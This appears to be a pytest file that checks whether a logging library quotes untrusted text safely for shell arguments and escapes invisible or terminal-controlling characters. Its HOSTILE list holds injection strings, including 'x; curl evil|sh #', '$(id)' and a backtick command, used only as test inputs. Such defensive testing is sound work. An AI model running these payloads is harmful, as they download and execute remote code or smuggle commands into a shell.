"""Text of others in lines, fields and commands."""

from __future__ import annotations

import subprocess

import pytest

from eventlog.printable import as_argument, printable, word

HOSTILE = [
    "x; curl evil|sh #",
    "a b",
    "it's",
    "a\nb",
    "it's\n\\",
    "\x1b[31m",
    "\u202e",
    "\\",
    "$(id)",
    "`id`",
    "-x",
    "\x85",
    "\U000e0001",
    "\u3164",
    "'",
]


@pytest.mark.server
@pytest.mark.parametrize("text", HOSTILE)
def test_an_argument_is_one_word_for_a_shell(text: str) -> None:
    """Bash reads back the text itself, and the message has no character that steers a terminal."""
    shown = as_argument(text)
    done = subprocess.run(
        ["bash", "-c", f"printf %s {shown}"], check=True, capture_output=True, env={"LC_ALL": "C.UTF-8"}
    )
    assert done.stdout.decode() == text
    assert shown.isprintable()


@pytest.mark.parametrize("text", ["a b", "a\tb", "-", "'x'", '"x"', "\u00a0", "\u2028", "a\x00"])
def test_an_ambiguous_word_is_shown_as_its_repr(text: str) -> None:
    """A blank would begin another column, and a dash stands for nothing."""
    assert word(text) == repr(text)
    assert "\n" not in word(text)


@pytest.mark.parametrize("text", ["", "42", "refund-desk-59d77310", "a:b|c", "ünï", "it's"])
def test_other_words_stay(text: str) -> None:
    """Most ids need no quotes."""
    assert word(text) == printable(text) == text


@pytest.mark.parametrize("blank", "\u115f\u1160\u2800\u3164\uffa0")
def test_letters_that_look_like_blanks_become_escapes(blank: str) -> None:
    """They would begin another column on a screen, as blanks do."""
    escape = blank.encode("unicode_escape").decode()
    assert (printable(f"a{blank}b"), word(f"a{blank}b")) == (f"a{escape}b", f"'a{escape}b'")
    assert blank not in as_argument(f"a{blank}b")


@pytest.mark.parametrize("mark", "\u034f\u17b4\u17b5\u180b\u180f\ufe00\ufe0d\ufe0f\U000e0100\U000e01ef")
def test_marks_that_nobody_sees_become_escapes(mark: str) -> None:
    """An id that differs from another in them only would look the same, and so have its verdict."""
    escape = mark.encode("unicode_escape").decode()
    assert word(f"42{mark}") == f"'42{escape}'"
    assert mark not in as_argument(f"42{mark}")
    assert printable(f"42{mark}") == (f"42{mark}" if mark == "\ufe0f" else f"42{escape}")


def test_emojis_of_messages_stay() -> None:
    """The mark that makes a heart red is common, and hides nothing in a text."""
    assert printable("\u2764\ufe0f") == "\u2764\ufe0f"


def test_a_word_of_a_list_has_no_separator() -> None:
    """Or it would be two."""
    assert (word("a,b", ","), word("a,b")) == ("'a,b'", "a,b")
